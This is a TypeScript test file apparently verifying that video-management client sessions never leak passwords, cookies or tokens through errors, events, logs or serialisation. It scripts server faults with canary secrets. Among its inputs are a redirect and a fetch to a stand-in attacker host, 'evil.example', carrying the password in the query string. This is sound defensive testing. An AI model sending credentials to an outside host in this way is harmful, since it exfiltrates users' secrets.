import { createAlertSiteSession } from "@vms/alertsite";
import { isVmsError, type SessionEvent, type SessionOptions } from "@vms/core";
import { createEagleEyeSession } from "@vms/eagleeye";
import type { ScriptedAnswer } from "@vms/simulator";
import { vendors } from "@vms-tooling/demo/vendors";
import { served } from "@vms-tooling/e2e/served";
import { afterEach, beforeEach, expect, test } from "vitest";
import { catchPrinted } from "../src/printed.ts";
import { createSecrets } from "../src/secrets.ts";
import { leakIn, shown } from "../src/shown.ts";

// Law 13, over all packages at once: whatever can be thrown, emitted, printed or serialised is searched for every
// secret that travelled: the password, its Basic form, and every cookie, token and session id.

let printed: ReturnType<typeof catchPrinted>;
beforeEach(() => {
  printed = catchPrinted();
});
afterEach(() => printed.restore());

const rows = [
  ...vendors.map(({ key, name, firstCall, create }) => ({ key, name, firstCall, create })),
  {
    key: "eagleeye" as const,
    name: "Eagle Eye, the credential in the query",
    firstCall: "g/device/list",
    create: (options: SessionOptions & { baseUrl: string }) =>
      createEagleEyeSession({ ...options, transport: "query" }),
  },
  {
    key: "alertsite" as const,
    name: "AlertSite, the credential in the query",
    firstCall: "locations",
    create: (options: SessionOptions & { baseUrl: string }) =>
      createAlertSiteSession({ ...options, transport: "query" }),
  },
];

const SET_COOKIE = [
  "va=made-up-canary-va; Path=/",
  "videobank_sessionid=made-up-canary-sid",
  "auth_key=made-up-canary-key",
];

for (const { key, name, firstCall, create } of rows) {
  test(`L13: ${name}: nothing that is thrown, emitted, printed or serialised holds a secret`, async () => {
    const { simulator, at } = await served();
    const server = simulator[key];
    const password = server.account.password;
    const secrets = createSecrets();
    secrets.account(server.account);
    secrets.add("made-up-canary-va", "made-up-canary-sid", "made-up-canary-key", "made-up-canary-wrong");
    const seen: unknown[] = [];
    const retry = { attempts: 1 };
    const options = { baseUrl: at[key].baseUrl, credentials: server.account, retry, timeout: 2_000 };
    const listen = (session: ReturnType<typeof create>) => {
      const types: SessionEvent["type"][] = [
        "login",
        "renewed",
        "renewal_failed",
        "rejected",
        "rotated",
        "expired",
        "logout",
      ];
      for (const type of types) session.on(type, (event) => seen.push(event));
      seen.push(session, session.http, session.fetch);
      return session;
    };
    const keep = async (run: Promise<unknown>) => {
      const outcome = await run.catch((error: unknown) => error);
      seen.push(outcome);
      return outcome;
    };

    // Signing in, gone wrong in every way; the bodies quote what was sent.
    const quote = JSON.stringify({
      message: password,
      errors: { password: [`"${password}" is wrong`] },
      desc: password,
      code: "BAD_PARAM",
    });
    const faults: ScriptedAnswer[] = [
      { status: 500, body: password },
      { status: 429, headers: { "retry-after": "1" }, body: password },
      { status: 400, body: quote, headers: { "content-type": "application/json" } },
      { status: 422, body: quote, headers: { "content-type": "application/json" } },
      { status: 403, body: quote, headers: { "content-type": "application/json" } },
      { status: 200, body: `<html>${password}</html>`, headers: { "content-type": "text/html" } },
      { status: 200, body: `{"token": "${password}`, headers: { "content-type": "application/json" } },
      { status: 200, body: JSON.stringify({ token: password, user: password, metadata: password }) },
      { status: 200, body: password.repeat(100_000) },
      { status: 302, headers: { location: `https://evil.example/?p=${password}` } },
      { drop: "before-headers" },
      { drop: "in-body" },
    ];
    for (const fault of faults) {
      server.script(fault);
      const error = await keep(listen(create(options)).login());
      expect(isVmsError(error)).toBe(true);
    }
    const wrong = { ...server.account, password: "made-up-canary-wrong" };
    expect(await keep(listen(create({ ...options, credentials: wrong })).login())).toMatchObject({
      code: "invalid_credentials",
    });

    // Calls, gone wrong.
    const session = listen(create(options));
    await keep(session.fetch(firstCall));
    server.script({
      status: 404,
      body: "{}",
      headers: SET_COOKIE.map((line): [string, string] => ["set-cookie", line]),
    });
    const httpError = await keep(session.http.get(firstCall, { retry: 0 }).json());
    expect(httpError).toMatchObject({ name: "HTTPError" });
    const { response } = httpError as { response: Response };
    seen.push(response.headers, [...response.headers], response.url);
    server.script({ status: 500, headers: SET_COOKIE.map((line): [string, string] => ["set-cookie", line]) });
    await keep(session.http.post(firstCall, { json: {}, retry: 0 }));
    for (const fault of [{ drop: "before-headers" }, { drop: "in-body" }] satisfies ScriptedAnswer[]) {
      server.script(fault);
      await keep(session.fetch(firstCall).then((response) => response.text()));
      server.script(fault);
      await keep(session.http.get(firstCall, { retry: 0 }).text());
    }
    server.script({ status: 302, headers: { location: "https://127.0.0.1:1/away" } });
    await keep(session.fetch(firstCall));
    server.script({ status: 302, headers: { location: firstCall } });
    await keep(session.fetch(firstCall));
    await keep(session.fetch(`https://evil.example/?x=${password}`));
    server.revokeAll();
    await keep(session.fetch(firstCall));
    await keep(session.renew());
    seen.push(session.info);
    server.script({ status: 500, when: ({ path }) => path.includes("logout") });
    await keep(session.logout());
    await keep(session.fetch(firstCall));

    for (const request of server.requests) secrets.request(request);
    expect(secrets.all().size).toBeGreaterThan(4);
    expect(leakIn([...seen.map(shown), ...printed.lines].join("\n"), secrets.all())).toBe("");
  });
}
